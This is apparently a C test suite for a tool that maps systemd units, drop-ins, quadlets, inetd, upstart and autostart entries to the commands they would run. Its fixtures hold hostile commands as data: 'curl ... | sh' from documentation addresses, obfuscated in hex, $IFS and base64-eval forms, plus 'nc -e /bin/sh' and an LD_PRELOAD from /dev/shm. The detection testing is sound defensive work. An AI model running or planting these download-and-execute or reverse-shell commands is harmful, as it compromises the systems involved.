/* check_unit_commands.c -- what a unit would run, of made-up units. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "harness.h"

static const char *dir;

static void new_root(void)
{
    dir = harness_scratch();
    harness_write_text(dir, "etc/passwd",
                       "root:x:0:0::/root:/bin/sh\nann:x:1000:1000::/home/ann:\n");
}

static void file(const char *path, const char *text)
{
    harness_write_text(dir, path, text);
}

/* A unit a.service with these lines in its section. */
static void service(const char *lines)
{
    char text[4096];

    snprintf(text, sizeof text, "[Service]\n%s\n", lines);
    new_root();
    file("etc/systemd/system/a.service", text);
}

/* The rows of a query, with this root in place of ROOT. */
#define expect(expected, sql) harness_expect_root(dir, "unit_commands", expected, sql)

START_TEST(every_command_has_a_row)
{
    service("Type=oneshot\nExecStartPre=-/bin/p\nExecStart=/bin/a 'x y' ; @/bin/b name \\; c\n"
            "ExecStop=+/bin/s\nExecReloadPost=/bin/r");
    expect("3|ExecStartPre|1|-|/bin/p|[\"/bin/p\"]|1\n"
           "4|ExecStart|1||/bin/a|[\"/bin/a\", \"x y\"]|1\n"
           "4|ExecStart|2|@|/bin/b|[\"name\", \";\", \"c\"]|1\n"
           "5|ExecStop|1|+|/bin/s|[\"/bin/s\"]|1\n"
           "6|ExecReloadPost|1||/bin/r|[\"/bin/r\"]|1",
           "SELECT line, setting, position, flags, executable, argv, effective FROM ROOT");
}
END_TEST

START_TEST(what_systemd_refuses_has_a_row_with_the_reason)
{
    service("ExecStart=/bin/a ; +!/bin/b\nExecStartPost=-/bin/echo \"oops");
    expect("ExecStart|1|/bin/a|0|bad-setting: /etc/systemd/system/a.service:2: Neither a valid "
           "executable name nor an absolute path: !/bin/b\n"
           "ExecStart|2|NULL|0|bad-setting: /etc/systemd/system/a.service:2: Neither a valid "
           "executable name nor an absolute path: !/bin/b\n"
           "ExecStartPost|1|NULL|0|bad-setting: /etc/systemd/system/a.service:2: Neither a valid "
           "executable name nor an absolute path: !/bin/b",
           "SELECT setting, position, executable, effective, error FROM ROOT");
    service("ExecStart=/bin/a\nExecStartPost=-/bin/echo \"oops");
    expect("ExecStart|1|NULL\n"
           "ExecStartPost|0|Unbalanced quoting, ignoring: \"-/bin/echo \"oops\"; systemd ignores "
           "the rest of the line",
           "SELECT setting, effective, error FROM ROOT");
    service("ExecStart=/bin/a\nExecStart=/bin/b");
    expect("0|bad-setting: Service has more than one ExecStart= setting, which is only allowed for "
           "Type=oneshot services. Refusing.",
           "SELECT DISTINCT effective, error FROM ROOT");
    file("etc/systemd/system/a.service.d/x.conf", "[Service]\nType=oneshot\n");
    expect("1|NULL", "SELECT DISTINCT effective, error FROM ROOT");
}
END_TEST

/* Names of 255 bytes and paths of 4095 are the longest. */
START_TEST(a_name_is_refused_by_one_byte)
{
    static const struct {
        size_t      first, more; /* bytes of a name, and how often "/abc" follows */
        const char *begin, *end;
        bool        refused;
    } names[] = {{255, 0, "", "", false},   {256, 0, "", "", true},    {255, 0, "/", "", false},
                 {256, 0, "/", "", true},   {256, 0, "/", "/a", true}, {255, 0, "/", "/a", false},
                 {2, 1023, "/", "", false}, {3, 1023, "/", "", true},  {1, 0, "/", "/", true},
                 {1, 0, "a/", "", true},    {1, 0, "", "", false},     {0, 0, "..", "", true},
                 {0, 0, ".", "", true},     {0, 0, "...", "", false},  {1, 0, "/\x7f", "", true}};
    char text[4400];

    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        size_t n = (size_t)sprintf(text, "[Service]\nExecStart=%s", names[i].begin);
        memset(text + n, 'a', names[i].first);
        n += names[i].first;
        for (size_t k = 0; k < names[i].more; k++)
            n += (size_t)sprintf(text + n, "/abc");
        sprintf(text + n, "%s", names[i].end);
        new_root();
        file("etc/systemd/system/a.service", text);
        expect(names[i].refused ? "1" : "0", "SELECT error IS NOT NULL FROM ROOT");
    }
}
END_TEST

START_TEST(a_drop_in_is_read_up_to_what_systemd_cannot_take)
{
    service("ExecStart=/bin/a");
    file("etc/systemd/system/a.service.d/x.conf",
         "[Service]\nExecStartPre=/bin/b\nExecStartPre=c/d\nExecStart=\n");
    expect("ExecStartPre|/bin/b|1|NULL\nExecStartPre|NULL|0|Neither a valid executable name nor an "
           "absolute path: c/d\nExecStart|/bin/a|1|NULL",
           "SELECT setting, executable, effective, error FROM ROOT ORDER BY setting DESC, line");
}
END_TEST

START_TEST(drop_ins_take_commands_away)
{
    service("ExecStart=/bin/a");
    file("etc/systemd/system/a.service.d/x.conf", "[Service]\nExecStart=\nExecStart=/bin/b\n");
    expect("/etc/systemd/system/a.service|/bin/a|0\n"
           "/etc/systemd/system/a.service.d/x.conf|/bin/b|1",
           "SELECT path, executable, effective FROM ROOT");
}
END_TEST

START_TEST(instances_that_something_starts_have_rows)
{
    new_root();
    file("etc/systemd/system/c@.service", "[Service]\nExecStart=/%I %i %j\n");
    file("etc/systemd/system/b.service", "[Unit]\nOnFailure=c@%p.service\n");
    harness_link(dir, "etc/systemd/system/multi-user.target.wants/c@tmp-.cache-upd.service",
                 "/etc/systemd/system/c@.service");
    expect("c@.service|NULL|/%I|[\"/%I\", \"%i\", \"c\"]\n"
           "c@b.service|b|/b|[\"/b\", \"b\", \"c\"]\n"
           "c@tmp-.cache-upd.service|tmp-.cache-upd|/tmp/.cache/upd|"
           "[\"/tmp/.cache/upd\", \"tmp-.cache-upd\", \"c\"]",
           "SELECT unit, instance, program, argv FROM ROOT");
    expect("/x/y", "SELECT program FROM ROOT WHERE unit = 'c@x-y.service'");
}
END_TEST

START_TEST(programs_are_found_where_they_are)
{
    service("Type=oneshot\nExecStart=/usr/bin/../../tmp/x ; /dev/./shm//x ; /bin/tool ; tool ; "
            "/proc/self/root/opt/x ; /absent/../x ; %V/y\nExecStart=\\x2ftmp\\x2fz");
    file("usr/bin/real", "\177ELF");
    file("tmp/x", "#!/bin/sh\n");
    harness_link(dir, "usr/bin/tool", "/etc/alternatives/tool");
    harness_link(dir, "etc/alternatives/tool", "../../usr/bin/real");
    harness_link(dir, "bin", "usr/bin");
    expect("/tmp/x|script\n/dev/shm/x|missing\n/usr/bin/real|elf\n/usr/bin/real|elf\n"
           "/opt/x|missing\n/x|missing\n/var/tmp/y|missing\n/tmp/z|missing",
           "SELECT program, program_kind FROM ROOT");
}
END_TEST

START_TEST(root_directories_and_bind_mounts_change_the_program)
{
    service("RootDirectory=/srv/r\nExecStart=/x\nExecStartPost=/l");
    harness_link(dir, "srv/r/l", "/y");
    expect("/srv/r/x|/srv/r|NULL\n/srv/r/y|/srv/r|NULL",
           "SELECT program, root_directory, bind_mounts FROM ROOT");
    service("BindReadOnlyPaths=/opt/agentd:/usr/bin/t -/opt/d:/usr/lib:norbind\n"
            "ExecStart=/usr/bin/t\nExecStartPost=/usr/lib/a/b\nExecStop=+/usr/bin/t");
    expect("/opt/agentd|/opt/agentd:/usr/bin/t\n/opt/d/a/b|/opt/d:/usr/lib\n/usr/bin/t|NULL",
           "SELECT program, bind_mounts FROM ROOT");
    service("BindPaths=/opt/agentd:/usr/lib/t /opt/u:/lib/u\nExecStart=/lib/t\n"
            "ExecStartPost=/usr/lib/u\nExecStop=/lib/v");
    harness_link(dir, "lib", "usr/lib"); /* as written, either may lead through a link */
    file("usr/lib/u", "\177ELF");
    expect("/opt/agentd|/opt/agentd:/usr/lib/t\n/opt/u|/opt/u:/usr/lib/u\n/usr/lib/v|NULL",
           "SELECT program, bind_mounts FROM ROOT");
    service("ExecSearchPath=/tmp:/usr/bin\nExecStart=x");
    expect("/tmp/x", "SELECT program FROM ROOT");
}
END_TEST

START_TEST(variables_come_from_settings_and_files)
{
    service("Environment=A=1 \"B=x y\" C=%n A=2\nEnvironmentFile=-/etc/default/a\n"
            "PassEnvironment=P\nUnsetEnvironment=GONE\n"
            "ExecStart=/bin/e $B ${B} ${A}${D} $NONE x${NONE}y $$A $P ${MAINPID}");
    file("etc/default/a", "# c\nD=\"q \\\n$r\"\nGONE=1\nbad line\n E = z \nA=3\n");
    expect("{\"A\": \"3\", \"B\": \"x y\", \"C\": \"a.service\", \"D\": \"q $r\", \"E\": \"z\"}|"
           "/bin/e x y 'x y' '3q $r' xy '$A' '$P' '${MAINPID}'",
           "SELECT environment, text FROM ROOT");
}
END_TEST

START_TEST(a_shell_is_given_all_words_with_the_prefix_of_258)
{
    service("ExecStart=@+|/tmp/x a\nExecStartPost=|");
    expect("@+||/bin/sh|[\"-sh\", \"/tmp/x\", \"a\"]|/bin/sh -c '/tmp/x a'\n"
           "||/bin/sh|[\"sh\"]|/bin/sh",
           "SELECT flags, executable, argv, text FROM ROOT");
}
END_TEST

START_TEST(text_is_one_line)
{
    service("ExecStart=/bin/sh -c \"a\\nb'c\"");
    expect("/bin/sh -c $'a\\nb\\'c'", "SELECT text FROM ROOT");
}
END_TEST

START_TEST(standard_input_is_decoded)
{
    service("ExecStart=/bin/sh\nStandardInputText=a\\x62 %p\nStandardInputData=Y2QK\nUser=eve");
    expect("ab a\ncd\n|eve", "SELECT standard_input, user FROM ROOT");
    service("ExecStart=/bin/sh\nStandardInput=null\nStandardInputText=a\nUser=eve\n"
            "ExecStop=+/bin/x");
    expect("NULL|eve\nNULL|root", "SELECT standard_input, user FROM ROOT");
}
END_TEST

START_TEST(what_the_manager_gives_is_known)
{
    service("User=ann\nRuntimeDirectory=a b\nStateDirectory=s\nSetCredential=c:x\n"
            "WorkingDirectory=~\nExecStart=/bin/sh ${HOME}/x $USER ${RUNTIME_DIRECTORY} "
            "${STATE_DIRECTORY} ${CREDENTIALS_DIRECTORY}/c\nExecStop=/bin/sh y");
    expect("/bin/sh /home/ann/x ann /run/a:/run/b /var/lib/s /run/credentials/a.service/c|"
           "/home/ann|/home/ann/x|{}\n/bin/sh y|/home/ann|/home/ann/y|{}",
           "SELECT text, working_directory, script, environment FROM ROOT");
}
END_TEST

START_TEST(users_units_have_their_homes)
{
    new_root();
    file("home/ann/.config/systemd/user/u.service", "[Service]\nExecStart=%h/x %u %U %t %C %g\n");
    file("etc/group", "ann:x:1000:\n");
    expect("user|ann|/home/ann/x|/home/ann/x ann 1000 /run/user/1000 /home/ann/.cache ann|ann",
           "SELECT scope, scope_user, program, text, user FROM ROOT");
}
END_TEST

START_TEST(a_dynamic_user_has_the_units_name)
{
    service("DynamicUser=yes\nExecStart=/bin/a\nExecStartPost=+/bin/b\nExecReload=!/bin/c");
    file("etc/systemd/system/b.service", "[Service]\nDynamicUser=1\nUser=ann\nExecStart=/bin/a\n");
    file("etc/systemd/system/c.service", "[Service]\nDynamicUser=no\nExecStart=/bin/a\n");
    file("etc/systemd/system/d.e.service", "[Service]\nDynamicUser=on\nExecStart=/bin/a\n");
    expect("a.service|/bin/a|a\na.service|/bin/b|root\na.service|/bin/c|root\n"
           "b.service|/bin/a|ann\nc.service|/bin/a|root\nd.e.service|/bin/a|_du",
           "SELECT unit, program, user FROM ROOT ORDER BY 1, 2");
}
END_TEST

START_TEST(limits_are_reported)
{
    char *text = malloc(200000);
    char *end = text + sprintf(text, "[Service]\nEnvironmentFile=/etc/big\n");

    for (int i = 0; i < 10002; i++)
        end += sprintf(end, "ExecStop=/bin/x\n");
    new_root();
    file("etc/systemd/system/a.service", text);
    memset(text, 'x', 199999);
    for (int i = 0; i < 199999; i += 20)
        memcpy(text + i, "\nA=", 3);
    text[199999] = '\0';
    file("etc/big", text);
    sqlite3 *db = harness_open();
    harness_expect(db, "10000", "SELECT count(*) FROM unit_commands('%s')", dir);
    ck_assert_ptr_nonnull(strstr(harness_query(db,
                                               "SELECT detail FROM evidence_sources WHERE "
                                               "table_name = 'unit_commands' AND location = "
                                               "'%s'",
                                               dir),
                                 "beyond a limit: "));
    harness_close(db);
    free(text);
}
END_TEST

START_TEST(mounts_and_sockets_have_rows)
{
    new_root();
    file("etc/systemd/system/srv-x.mount",
         "[Mount]\nWhat=/tmp/run#%p\nWhere=/srv/x\nType=fuse\nOptions=ro\n");
    file("etc/systemd/system/a.socket", "[Socket]\nListenStream=1\nExecStartPre=/tmp/x %n\n");
    file("etc/systemd/system/srv-s.swap", "[Swap]\nWhat=/srv/s\n");
    expect("a.socket|ExecStartPre|2|/tmp/x a.socket\n"
           "srv-s.swap|What|2|/sbin/swapon /srv/s\n"
           "srv-x.mount|What|2|/bin/mount '/tmp/run#srv-x' /srv/x -t fuse -o ro",
           "SELECT unit, setting, 2, text FROM ROOT ORDER BY unit");
}
END_TEST

START_TEST(drop_ins_with_a_dot_are_not_in_force)
{
    service("ExecStart=/bin/a");
    file("etc/systemd/system/a.service.d/.b.conf", "[Service]\nExecStart=\nExecStart=/tmp/b\n");
    expect("/bin/a|1|NULL\n/tmp/b|0|systemd reads no drop-in whose name begins with a dot",
           "SELECT executable, effective, error FROM ROOT");
}
END_TEST

/* What the one command of a unit comes down to. */
static void expect_script(const char *expected, const char *command)
{
    char lines[2048];

    snprintf(lines, sizeof lines, "WorkingDirectory=/srv\nExecStart=%s", command);
    service(lines);
    expect(expected, "SELECT script FROM ROOT");
}

START_TEST(the_script_of_an_interpreter_is_found)
{
    expect_script("/opt/x.sh", "/bin/sh /opt/x.sh a");
    expect_script("/srv/x", "/bin/bash -eu -o pipefail x");
    expect_script("/tmp/rc", "/bin/bash --rcfile /tmp/rc -i");
    expect_script("/srv/a.py", "/usr/bin/python3.11 -u -W ignore a.py");
    expect_script("NULL", "/usr/bin/python3 -m http.server");
    expect_script("/x.pl", "/usr/bin/perl -w -I /usr/lib /x.pl");
    expect_script("NULL", "/usr/bin/perl -we 'print 1' /x.pl");
    expect_script("/x.js", "/usr/bin/node --require ./a --inspect /x.js");
    expect_script("/x.php", "/usr/bin/php -d a=b -f /x.php");
    expect_script("/x.php", "/usr/bin/php8.2 -c /etc/php /x.php");
    expect_script("/x.rb", "/usr/bin/ruby -rsocket -I lib /x.rb");
    expect_script("/x.jar", "/usr/bin/java -Xmx1g -jar /x.jar");
    expect_script("NULL", "/usr/bin/java -cp /x.jar a.Main");
    expect_script("/x.awk", "/usr/bin/awk -F : -f /x.awk");
}
END_TEST

START_TEST(the_program_of_a_wrapper_is_found)
{
    expect_script("/opt/x", "/usr/bin/env -u B A=1 /opt/x y");
    expect_script("/opt/x.py", "/usr/bin/env -S \"python3 -u /opt/x.py\"");
    expect_script("/opt/x", "/usr/bin/busybox sh /opt/x");
    expect_script("/tmp/r/x", "/usr/sbin/chroot /tmp/r /x");
    expect_script("/opt/x", "/lib64/ld-linux-x86-64.so.2 --library-path /l /opt/x");
    expect_script("/opt/x", "/usr/bin/nice -n 5 /usr/bin/ionice -c 3 /opt/x");
    expect_script("/opt/x", "/sbin/start-stop-daemon --start --exec /opt/x -- -d");
    expect_script("/opt/x", "/usr/bin/flock /run/l -c 'exec /opt/x -d'");
    expect_script("/opt/x", "/usr/bin/systemd-run --unit=a /opt/x");
    expect_script("sleep", "/usr/bin/nice sleep 1");
    expect_script("/opt/x", "/bin/sh -c 'cd /tmp && umask 077; exec /opt/x'");
    expect_script("/opt/x", "/bin/sh -c '. /opt/x'");
    expect_script("/tmp/x", "/bin/sh -c 'cd /tmp; ./x'");
    expect_script("NULL", "/bin/sh -c '/opt/x; /opt/y'");
}
END_TEST

START_TEST(scripts_and_standard_input_are_read)
{
    service("ExecStart=/opt/s\nExecStartPost=/bin/sh /opt/s\nExecStop=/opt/b\n"
            "ExecStopPost=/bin/sh -c 'a'");
    file("opt/s", "#!/bin/sh\nid\n");
    file("opt/b", "\177ELF");
    expect("#!/bin/sh\nid\n|NULL\n#!/bin/sh\nid\n|script\nNULL|NULL\nNULL|missing",
           "SELECT script_text, script_kind FROM ROOT");
    expect("64|NULL\nNULL|64\n64|NULL\nNULL|NULL",
           "SELECT length(program_sha256), length(script_sha256) FROM ROOT");
    service("ExecStart=/bin/sh\nStandardInputText=cu\\x72l x|sh");
    expect("/bin/sh\ncurl x | sh|[\"/bin/sh\", \"curl\", \"sh\"]",
           "SELECT canonical, runs FROM ROOT");
    service("SetCredential=j:curl\\x20x\nExecStart=/bin/sh ${CREDENTIALS_DIRECTORY}/j");
    expect("/run/credentials/a.service/j|curl x", "SELECT script, script_text FROM ROOT");
    service("ExecStart=/bin/sh\nStandardInput=file:/tmp/x");
    expect("/tmp/x", "SELECT script FROM ROOT");
}
END_TEST

START_TEST(the_canonical_form_is_that_of_the_plain_form)
{
    static const char *const forms[] = {
        "/bin/sh -c \"cu\\x72l -s http://192.0.2.1/p \\\n | s\\x68\"",
        "/bin/sh -c 'c\"\"url -s$IFS\\'http://192.0.2.1/p\\'|s\\\\h'",
        "/bin/sh -c ${CMD}",
        "/bin/sh -c 'X=curl; $$X -s ${U} | \"s\"\\\\h'",
        "/bin/sh -c 'eval \"$$(echo Y3VybCAtcyBodHRwOi8vMTkyLjAuMi4xL3AgfCBzaA== | base64 -d)\"'",
    };
    char lines[2048];

    for (size_t i = 0; i < sizeof forms / sizeof forms[0]; i++) {
        snprintf(lines, sizeof lines,
                 "Environment=\"CMD=curl -s http://192.0.2.1/p | sh\" U=http://192.0.2.1/p\n"
                 "ExecStart=%s",
                 forms[i]);
        service(lines);
        expect("1", "SELECT canonical GLOB '*curl -s http://192.0.2.1/p | sh' FROM ROOT");
    }
}
END_TEST

static void executable(const char *path, const char *text)
{
    char full[4096];

    file(path, text);
    snprintf(full, sizeof full, "%s/%s", dir, path);
    ck_assert_int_eq(chmod(full, 0755), 0);
}

START_TEST(scripts_generators_and_hooks_have_rows)
{
    new_root();
    executable("etc/init.d/a", "#!/bin/sh\n");
    executable("etc/init.d/b", "#!/bin/sh\n");
    file("etc/init.d/c", "#!/bin/sh\n");
    file("etc/systemd/system/b.service", "[Service]\n");
    executable("etc/rc.local", "#!/bin/sh -e\nid\n");
    executable("etc/systemd/system-generators/g", "\177ELF");
    executable("usr/lib/systemd/system-sleep/s", "#!/bin/sh\n");
    expect("generator|NULL|/etc/systemd/system-generators/g|elf|1|NULL\n"
           "sysv|a.service|/etc/init.d/a|script|1|NULL\n"
           "sysv|b.service|/etc/init.d/b|script|0|a unit of its name replaces it\n"
           "sysv|c.service|/etc/init.d/c|script|0|not executable\n"
           "rc|rc-local.service|/etc/rc.local|script|1|NULL\n"
           "hook|NULL|/usr/lib/systemd/system-sleep/s|script|1|NULL",
           "SELECT kind, unit, program, program_kind, effective, error FROM ROOT");
    expect("/etc/rc.local start|#!/bin/sh -e\nid\n",
           "SELECT text, script_text FROM ROOT WHERE kind = 'rc'");
}
END_TEST

START_TEST(activation_and_autostart_have_rows)
{
    new_root();
    file("usr/share/dbus-1/system-services/a.service",
         "[D-BUS Service]\nName=a\nExec=/usr/libexec/a --x 'y z'\nUser=root\n");
    file("usr/share/dbus-1/system-services/b.service",
         "[D-BUS Service]\nName=b\nExec=/bin/false\nSystemdService=b.service\n");
    file("etc/xdg/autostart/c.desktop",
         "[Desktop Entry]\nExec=sh -c \"a \\\\$HOME\" %U x\nType=Application\n");
    file("etc/xdg/autostart/d.desktop", "[Desktop Entry]\nExec=d\nHidden=true\n");
    file("home/ann/.config/autostart/e.desktop",
         "[Desktop Entry]\nType=Application\nExec=/tmp/e\n");
    expect("dbus|NULL|[\"/usr/libexec/a\", \"--x\", \"y z\"]|root|1\n"
           "dbus|b.service|[\"/bin/false\"]|root|0\n"
           "autostart|NULL|[\"sh\", \"-c\", \"a $HOME\", \"x\"]|NULL|1\n"
           "autostart|NULL|[\"d\"]|NULL|0\n"
           "autostart|NULL|[\"/tmp/e\"]|ann|1",
           "SELECT kind, unit, argv, user, effective FROM ROOT");
}
END_TEST

START_TEST(what_the_manager_gives_is_part_of_a_command)
{
    new_root();
    file("etc/systemd/system.conf", "[Manager]\nDefaultEnvironment=A=main B='x y'\n");
    file("usr/lib/systemd/system.conf.d/1.conf", "[Manager]\nDefaultEnvironment=A=vendor\n");
    file("etc/systemd/system.conf.d/1.conf", "[Manager]\nDefaultEnvironment=A=own D=d\n"
                                             "ManagerEnvironment=M=m\n");
    file("etc/systemd/system.conf.d/.2.conf", "[Manager]\nDefaultEnvironment=A=hidden\n");
    file("etc/systemd/user.conf", "[Manager]\nDefaultEnvironment=D=u\nManagerEnvironment=M=m\n");
    file("etc/environment.d/10.conf", "E=1\nF=${E}/x\n");
    file("home/ann/.config/environment.d/20.conf", "G=\"$F y\"\n");
    file("etc/systemd/system/a.service",
         "[Service]\nExecStart=/bin/a $A ${B} ${D} ${M}\nEnvironment=D=mine\n");
    file("etc/systemd/user/b.service", "[Service]\nExecStart=/bin/b $D $M $F ${G}\n");
    file("home/ann/.config/systemd/user/c.service", "[Service]\nExecStart=/bin/c $D $M $F ${G}\n");
    expect("a.service|/bin/a own 'x y' mine ''|{\"D\": \"mine\"}\n"
           "b.service|/bin/b u m 1/x '${G}'|{}\nc.service|/bin/c u m 1/x '1/x y'|{}",
           "SELECT unit, text, environment FROM ROOT ORDER BY unit");
}
END_TEST

START_TEST(quadlets_have_rows)
{
    new_root();
    file("etc/containers/systemd/w.container",
         "[Container]\nImage=docker.io/alpine\nExec=sh -c \"nc -e /bin/sh\"\n"
         "[Service]\nExecStartPre=/tmp/x %n\nEnvironment=A=1\n");
    expect("ExecStartPre|w.service|/tmp/x|/tmp/x w.service\n"
           "Exec|w.service|/usr/bin/podman|"
           "/usr/bin/podman run docker.io/alpine sh -c 'nc -e /bin/sh'",
           "SELECT setting, unit, program, text FROM ROOT WHERE kind = 'quadlet'");
    file("usr/share/dbus-1/system-services/a.service", "[D-BUS Service]\nName=a\nExec=/bin/a\n");
    expect("Exec\nExecStartPre", "SELECT setting FROM ROOT WHERE unit = 'w.service' ORDER BY 1");
    expect("", "SELECT setting FROM ROOT WHERE unit = 'x.service'");
    expect("nc", "SELECT runs ->> '$[#-1]' FROM ROOT WHERE kind = 'quadlet' AND setting = 'Exec'");
}
END_TEST

START_TEST(quadlets_of_every_folder_and_type_have_rows)
{
    new_root();
    file("etc/containers/systemd/a/b/x.container", "[Container]\nImage=i\nExec=one\n");
    file("etc/containers/systemd/x.container.d/y.conf", "[Container]\nExec=two\n");
    file("etc/containers/systemd/v.volume", "[Service]\nExecStartPre=/bin/v\n");
    file("etc/containers/systemd/p.pod", "[Service]\nExecStartPre=/bin/p\n");
    file("etc/containers/systemd/f.artifact", "[Service]\nExecStartPre=/bin/f\n");
    file("etc/containers/systemd/n.containers", "[Service]\nExecStartPre=/bin/no\n");
    file("etc/containers/systemd/users/u.container", "[Container]\nExec=all\n");
    file("etc/containers/systemd/users/1000/m.container", "[Container]\nExec=mine\n");
    file("etc/containers/systemd/users/1001/o.container", "[Container]\nExec=other\n");
    file("usr/share/containers/systemd/users/1000/r.container", "[Container]\nExec=root\n");
    expect(
        "system|NULL|f-artifact.service|ExecStartPre|/bin/f\n"
        "system|NULL|p-pod.service|ExecStartPre|/bin/p\n"
        "system|NULL|r.service|Exec|root\nsystem|NULL|v-volume.service|ExecStartPre|/bin/v\n"
        "system|NULL|x.service|Exec|one\nsystem|NULL|x.service|Exec|two\n"
        "user|NULL|u.service|Exec|all\nuser|ann|m.service|Exec|mine",
        "SELECT scope, scope_user, unit, setting, argv ->> '$[#-1]' AS word FROM ROOT WHERE kind = "
        "'quadlet' ORDER BY scope, scope_user, unit, word");
}
END_TEST

START_TEST(autostart_is_read_as_systemds_generator_reads_it)
{
    new_root();
    file("etc/xdg/autostart/updater", "[Desktop Entry]\nType=Application\nExec=/bin/a\n");
    file("etc/xdg/autostart/old.desktop.disabled",
         "[Desktop Entry]\nType=Application\nExec=/bin/b\n");
    file("etc/xdg/autostart/.dot.desktop", "[Desktop Entry]\nType=Application\nExec=/bin/c\n");
    file("etc/xdg/autostart/x.desktop.bak", "[Desktop Entry]\nType=Application\nExec=/bin/d\n");
    file("etc/xdg/autostart/link.desktop", "[Desktop Entry]\nType=Link\nExec=/bin/e\n");
    file("etc/xdg/autostart/skip.desktop", "[Desktop Entry]\nX-systemd-skip=true\nExec=/bin/f\n");
    file("bin/sh", "");
    file("etc/xdg/autostart/try.desktop",
         "[Desktop Entry]\nType=Application\nTryExec=/bin/none\nExec=/bin/g\n");
    expect(
        ".dot.desktop|0\nlink.desktop|0\nold.desktop.disabled|1\nskip.desktop|0\ntry.desktop|0\n"
        "updater|1\nx.desktop.bak|0",
        "SELECT replace(path, '/etc/xdg/autostart/', '') AS file, effective FROM ROOT WHERE kind = "
        "'autostart' ORDER BY file");
}
END_TEST

START_TEST(inetd_and_upstart_have_rows)
{
    new_root();
    file("etc/inetd.conf",
         "# x\nssh stream tcp nowait eve:g /tmp/d d -a\ntime stream tcp nowait root internal\n");
    file("etc/inetd.d/y", "e stream tcp nowait root /bin/e e\n");
    file("etc/xinetd.d/x", "service a\n{\n  disable = no\n  user = eve\n  server = /tmp/s\n"
                           "  server_args = -a b\n}\nservice b\n{\n type = INTERNAL\n}\n"
                           "service c\n{\n server = /bin/c\n disable = yes\n}\n");
    file("etc/init/u.conf",
         "start on boot\nexec /tmp/u -d\npre-start script\n  curl x | sh\nend script\n");
    expect("xinetd|server|5|[\"/tmp/s\", \"-a\", \"b\"]|eve|1|/tmp/s -a b\n"
           "xinetd|server|14|[\"/bin/c\"]|root|0|/bin/c\n"
           "inetd|program|2|[\"d\", \"-a\"]|eve|1|/tmp/d -a\n"
           "inetd|program|1|[\"e\"]|root|1|/bin/e\n"
           "upstart|exec|2|[\"/bin/sh\", \"-e\", \"-c\", \"/tmp/u -d\"]|root|1|"
           "/bin/sh -e -c '/tmp/u -d'\n"
           "upstart|script|3|[\"/bin/sh\", \"-e\", \"-c\", \"curl x | sh\"]|root|1|"
           "/bin/sh -e -c 'curl x | sh'",
           "SELECT kind, setting, line, argv, user, effective, text FROM ROOT");
    expect("/tmp/u", "SELECT script FROM ROOT WHERE setting = 'exec'");
}
END_TEST

START_TEST(cases_come_out_as_they_run)
{
    static const struct {
        const char *number, *unit, *text;
    } cases[] = {
        {"102", "c102.service", "/bin/sh -c 'sleep 41   02'"},
        {"104", "c104.service", "/bin/sleep 4104"},
        {"115", "c115@8.service", "/bin/sleep 8"},
        {"136", "c136.service", "/bin/sleep 1"},
        {"203", "c203@tmp-.cache-upd.service", "/tmp/.cache/upd"},
        {"204", "c204.service", "/bin/sh -c 'curl -s http://198.51.100.9/p | sh'"},
        {"206", "c206.service", "/usr/sbin/cron -f"},
        {"207", "c207.service", "/bin/sh -c 'curl -s http://198.51.100.9/p  | sh'"},
    };
    const char *folder = getenv("SVCQL_CASES");
    sqlite3    *db;

    if (!folder)
        SKIP("needs SVCQL_CASES");
    db = harness_open();
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
        harness_expect(db, cases[i].text,
                       "SELECT text FROM unit_commands('%s/behaviour/%s') WHERE effective AND unit "
                       "= '%s'",
                       folder, cases[i].number, cases[i].unit);
    harness_expect(db, "/dev/shm/.x.so",
                   "SELECT environment ->> 'LD_PRELOAD' FROM unit_commands('%s/behaviour/206')",
                   folder);
    harness_close(db);
}
END_TEST

Suite *make_unit_commands_suite(void)
{
    Suite *s = suite_create("unit_commands");
    TCase *t = tcase_create("made-up");

    tcase_add_test(t, every_command_has_a_row);
    tcase_add_test(t, what_systemd_refuses_has_a_row_with_the_reason);
    tcase_add_test(t, a_name_is_refused_by_one_byte);
    tcase_add_test(t, a_drop_in_is_read_up_to_what_systemd_cannot_take);
    tcase_add_test(t, drop_ins_take_commands_away);
    tcase_add_test(t, instances_that_something_starts_have_rows);
    tcase_add_test(t, programs_are_found_where_they_are);
    tcase_add_test(t, root_directories_and_bind_mounts_change_the_program);
    tcase_add_test(t, variables_come_from_settings_and_files);
    tcase_add_test(t, a_shell_is_given_all_words_with_the_prefix_of_258);
    tcase_add_test(t, text_is_one_line);
    tcase_add_test(t, standard_input_is_decoded);
    tcase_add_test(t, the_script_of_an_interpreter_is_found);
    tcase_add_test(t, the_program_of_a_wrapper_is_found);
    tcase_add_test(t, scripts_and_standard_input_are_read);
    tcase_add_test(t, the_canonical_form_is_that_of_the_plain_form);
    tcase_add_test(t, scripts_generators_and_hooks_have_rows);
    tcase_add_test(t, activation_and_autostart_have_rows);
    tcase_add_test(t, what_the_manager_gives_is_part_of_a_command);
    tcase_add_test(t, quadlets_have_rows);
    tcase_add_test(t, quadlets_of_every_folder_and_type_have_rows);
    tcase_add_test(t, autostart_is_read_as_systemds_generator_reads_it);
    tcase_add_test(t, inetd_and_upstart_have_rows);
    tcase_add_test(t, what_the_manager_gives_is_known);
    tcase_add_test(t, users_units_have_their_homes);
    tcase_add_test(t, a_dynamic_user_has_the_units_name);
    tcase_add_test(t, limits_are_reported);
    tcase_add_test(t, mounts_and_sockets_have_rows);
    tcase_add_test(t, drop_ins_with_a_dot_are_not_in_force);
    tcase_add_test(t, cases_come_out_as_they_run);
    suite_add_tcase(s, t);
    return s;
}
